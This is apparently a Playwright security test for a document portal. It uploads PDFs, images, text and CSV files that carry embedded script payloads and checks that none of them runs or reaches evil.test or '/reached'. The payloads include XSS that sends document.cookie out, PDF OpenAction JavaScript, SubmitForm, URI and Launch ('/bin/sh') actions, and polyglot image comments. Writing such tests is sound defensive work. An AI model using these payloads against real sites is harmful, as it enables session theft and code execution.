/** Files made to run something: whatever is in them, the portal's own origin is never reached. */
import { readFileSync } from 'node:fs';
import { pdfOf } from '#test/paged-pdf.ts';
import { expect, test } from '../test.ts';
import { sendFile } from '../pages/documents.ts';

const REACH = `fetch('/reached?by='+encodeURIComponent(document.cookie));try{top.location='/reached'}catch(e){};alert(1)`;
/** What runs if a browser takes the bytes for something else than they were stored as. */
const PAYLOADS: Record<string, string> = {
  html: `<html><body><script>${REACH}</script></body></html>`,
  image: `<img src=x onerror="${REACH}"><svg onload="${REACH}"></svg>`,
  svg: `<svg xmlns="http://www.w3.org/2000/svg"><script>${REACH}</script></svg>`,
  xml: `<?xml version="1.0"?><?xml-stylesheet href="/reached"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${REACH}</h:script></x>`,
  refresh: `<meta http-equiv="refresh" content="0;url=/reached"><base href="//evil.test/"><form action="/reached"><button autofocus>`,
  script: `*/=1;${REACH};/*`,
};
const bytes = (text: string) => Buffer.from(text, 'latin1');
/** Whole files of their kind, so that they are taken, with the payload where each keeps remarks. */
const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const inTests = (name: string) => readFileSync(new URL(`../../test/${name}`, import.meta.url));
const PNG = inTests('tiny.png');
const JPEG = inTests('tiny.jpg');
const CONTAINERS: Record<string, (payload: string) => Buffer> = {
  'a.pdf': (payload) => Buffer.concat([Buffer.from(pdfOf({ pages: [['Page']] })), bytes(`\n${payload}`)]),
  'b.pdf': (payload) =>
    Buffer.from(
      pdfOf({ pages: [['Page']], catalog: `/Remark(${payload.replaceAll(/[()\\]/g, String.raw`\$&`)})` }),
    ),
  'a.gif': (payload) => Buffer.concat([GIF, bytes(payload)]),
  'a.png': (payload) => Buffer.concat([PNG, bytes(payload)]),
  'a.jpg': (payload) =>
    Buffer.concat([
      JPEG.subarray(0, 2),
      Buffer.from('fffe', 'hex'),
      Buffer.from([(payload.length + 2) >> 8, (payload.length + 2) & 255]),
      bytes(payload),
      JPEG.subarray(2),
    ]),
  'a.txt': (payload) => bytes(payload),
  'a.csv': (payload) => bytes(`Name,Amount\n${payload.replaceAll(',', ';')},1`),
};
const js = `this.submitForm('https://evil.test/reached');app.alert('reached');app.launchURL('https://evil.test/reached',true)`;
/** PDFs that act when they are opened, or when something in them is pressed. */
const ACTING: Record<string, string> = {
  'open-script.pdf': `/OpenAction<</S/JavaScript/JS(${js.replaceAll(/[()\\]/g, String.raw`\$&`)})>>`,
  'named-script.pdf': `/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>`,
  'open-uri.pdf': '/OpenAction<</S/URI/URI(https://evil.test/reached)>>',
  'launch.pdf': '/OpenAction<</S/Launch/F(/bin/sh)>>',
  'submit.pdf': '/OpenAction<</S/SubmitForm/F(https://evil.test/reached)>>',
  'remote.pdf': '/OpenAction<</S/GoToR/F(https://evil.test/reached.pdf)/D[0/Fit]>>',
  'xfa.pdf':
    '/AcroForm<</XFA(<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert\\(1\\)</script></xdp:xdp>)>>',
  'closing.pdf': '/AA<</WC<</S/JavaScript/JS(app.alert\\(1\\))>>/WS<</S/JavaScript/JS(app.alert\\(1\\))>>>>',
};

const SHOW_IN_PAGE = `for (const kind of ['img', 'iframe']) {
  const element = document.createElement(kind);
  element.src = 'ADDRESS';
  document.body.append(element);
}`;

const withPayload = (names: readonly string[]): Record<string, Uint8Array> =>
  Object.fromEntries(
    names.flatMap((name) =>
      Object.entries(PAYLOADS).map(([kind, payload]) => [`${kind} ${name}`, CONTAINERS[name]!(payload)]),
    ),
  );
/** Fifty in all. */
const GROUPS: Record<string, Record<string, Uint8Array>> = {
  'PDFs that act': Object.fromEntries(
    Object.entries(ACTING).map(([name, catalog]) => [name, pdfOf({ pages: [[name]], catalog })]),
  ),
  'PDFs with something behind or in them': withPayload(['a.pdf', 'b.pdf']),
  'pictures with remarks': withPayload(['a.gif', 'a.png', 'a.jpg']),
  'texts and tables': withPayload(['a.txt', 'a.csv']),
};

for (const [group, files] of Object.entries(GROUPS))
  test(`${group} are opened by their links and in the viewer, and reach nothing`, async ({ page, firm }) => {
    test.setTimeout(120_000);
    const maria = await firm.client({ entity: `Delgado ${firm.slug}` });
    const { id: companyId, hash } = maria.entity;
    const put = (url: string, data: Buffer) => page.request.put(url, { data });
    const reached: string[] = [];
    const watch = (watched: typeof page) => {
      watched.on('dialog', (dialog) => {
        reached.push(`dialog ${dialog.message()}`);
        void dialog.dismiss();
      });
      watched.on('request', (request) => {
        const url = new URL(request.url());
        if (url.hostname === 'evil.test' || url.pathname.startsWith('/reached')) reached.push(request.url());
      });
    };
    watch(page);
    page.context().on('page', watch);
    await firm.signIn(page, firm.partner, `/admin/${hash}/documents`);

    const taken: { id: number; name: string }[] = [];
    const left = Object.entries(files);
    const work = async () => {
      for (let next = left.shift(); next; next = left.shift()) {
        const [name, content] = next;
        // Some are refused at the door, which is as well.
        const id = await sendFile(firm.call, put, {
          companyId,
          path: '/Permanent',
          name,
          bytes: content,
        }).catch(() => null);
        if (id !== null) taken.push({ id, name });
      }
    };
    await Promise.all([work(), work(), work()]);
    expect(taken.length).toBeGreaterThan(Object.keys(files).length * 0.8);

    const tab = await page.context().newPage();
    for (const { id } of taken) {
      const link = await page.evaluate(async (document) => {
        const fresh = await fetch('/api/session/refresh', { method: 'POST' });
        const { access_token } = (await fresh.json()) as { access_token: string };
        const answer = await fetch(`/api/documents/${document}/link`, {
          method: 'POST',
          headers: { authorization: `Bearer ${access_token}`, 'content-type': 'application/json' },
          body: JSON.stringify({ disposition: 'inline' }),
        });
        return ((await answer.json()) as { url: string }).url;
      }, id);
      await tab.goto(link).catch(() => undefined);
      // As a picture and a frame of the page itself.
      await page.evaluate(SHOW_IN_PAGE.replace('ADDRESS', link));
    }
    await tab.close();

    await page.goto(`/admin/${hash}/documents?path=/Permanent`);
    await page.getByRole('combobox', { name: 'Rows' }).selectOption('20');
    const table = page.getByRole('region', { name: 'Documents' });
    await expect(page.getByText(`1–${taken.length} of ${taken.length}`)).toBeVisible();
    await table
      .getByRole('link', { name: / a\.|\.pdf/ })
      .first()
      .click();
    // Found by what is written in the page: asking for roles, again and again over a list, takes longer than the viewer.
    const viewer = page.locator('[role=dialog]');
    const shownFile = viewer.locator('canvas[data-drawn], pre, table, img, :text("Failed to load PDF file")');
    const shown = new Set<string>();
    for (let at = 1; at <= taken.length; at += 1) {
      await viewer.locator(`:text-is("${at} of ${taken.length}")`).waitFor();
      shown.add(await viewer.locator('h2').first().innerText());
      await shownFile.first().waitFor();
      if (at < taken.length) await viewer.locator('[aria-label="Next file"]').click();
    }
    expect(shown.size).toBe(taken.length);
    expect(reached).toEqual([]);
  });
